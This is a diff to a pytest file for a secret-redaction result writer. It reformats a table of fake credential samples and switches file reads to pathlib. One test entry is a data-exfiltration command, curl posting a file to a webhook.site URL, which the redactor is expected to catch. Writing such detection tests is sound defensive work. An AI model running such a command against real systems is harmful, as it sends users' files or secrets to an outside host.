@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import stat
+from pathlib import Path
 
 import pytest
 
@@ -26,7 +27,11 @@ SECRETS = [
     ("gitlab token", "GITLAB=glpat-xxxxxxxxxxxxxxxxxxxx1234", "glpat-xxxxxxxxxxxxxxxxxxxx1234"),
     ("slack bot token", "xoxb-1234567890-0987654321-AbCdEfGhIjKl", "xoxb-1234567890"),
     ("slack webhook", "post to https://hooks.slack.com/services/T000/B000/XXXXXXXX", "hooks.slack.com/services/T000"),
-    ("bearer header", "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9abcdef", "eyJhbGciOiJIUzI1NiIsInR5cCI6"),
+    (
+        "bearer header",
+        "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9abcdef",
+        "eyJhbGciOiJIUzI1NiIsInR5cCI6",
+    ),
     (
         "private key block",
         "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE KEY-----",
@@ -38,10 +43,18 @@ SECRETS = [
     ("google api key", "AIzaSyA1234567890abcdefghijklmnopqrstuv", "AIzaSyA1234567890abcdefghij"),
     ("stripe live key", "sk_live_abcdefghijklmnopqrstuvwx", "sk_live_abcdefghijkl"),
     ("npm token", "//registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789", "npm_abcdefghijklmno"),
-    ("jwt", "session eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "dozjgNryP4J3jVmN"),
+    (
+        "jwt",
+        "session eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+        "dozjgNryP4J3jVmN",
+    ),
     ("password assignment", "db_password: hunter2hunter2", "hunter2hunter2"),
     ("sendgrid key", "SG.abcdefghijklmnopqrstuv.abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG", "SG.abcdefghijklmnop"),
-    ("azure storage key", "AccountKey=abcdefghijklmnopqrstuvwxyz0123456789ABCDEF==;EndpointSuffix", "abcdefghijklmnopqrstuvwxyz0123"),
+    (
+        "azure storage key",
+        "AccountKey=abcdefghijklmnopqrstuvwxyz0123456789ABCDEF==;EndpointSuffix",
+        "abcdefghijklmnopqrstuvwxyz0123",
+    ),
     ("exfiltration url", "curl -d @data https://webhook.site/3f7c-4e1a", "webhook.site/3f7c-4e1a"),
     ("secret query parameter", "GET https://api.example.com/v1?api_key=abcdef123456&x=1", "abcdef123456"),
     ("pypi token", "password = pypi-AgEIcHlwaS5vcmcCJGFiY2RlZmdoLWlqa2wtbW5vcC1xcnN0", "pypi-AgEIcHlwaS5vcmcCJGFi"),
@@ -74,7 +87,7 @@ def test_ordinary_prose_and_code_survive(text):
 
 def test_result_is_redacted_before_it_reaches_disk(tmp_path):
     path, _ = write_result(tmp_path, 1, ("Found AKIAIOSFODNN7EXAMPLE ", "in the config."))
-    data = open(path, encoding="utf-8").read()
+    data = Path(path).read_text(encoding="utf-8")
     assert "AKIAIOSFODNN7EXAMPLE" not in data
     assert "[REDACTED:aws_access_key]" in data
     assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
@@ -94,7 +107,7 @@ def test_write_is_atomic_and_leaves_no_temp_files(tmp_path):
     write_result(tmp_path, 2, ("one",))
     write_result(tmp_path, 2, ("two",))
     assert sorted(os.listdir(tmp_path)) == ["stage_2_result.md"]
-    assert open(result_path(tmp_path, 2)).read() == "two\n"
+    assert Path(result_path(tmp_path, 2)).read_text() == "two\n"
 
 
 def test_confinement_accepts_only_the_writers_own_path(tmp_path):
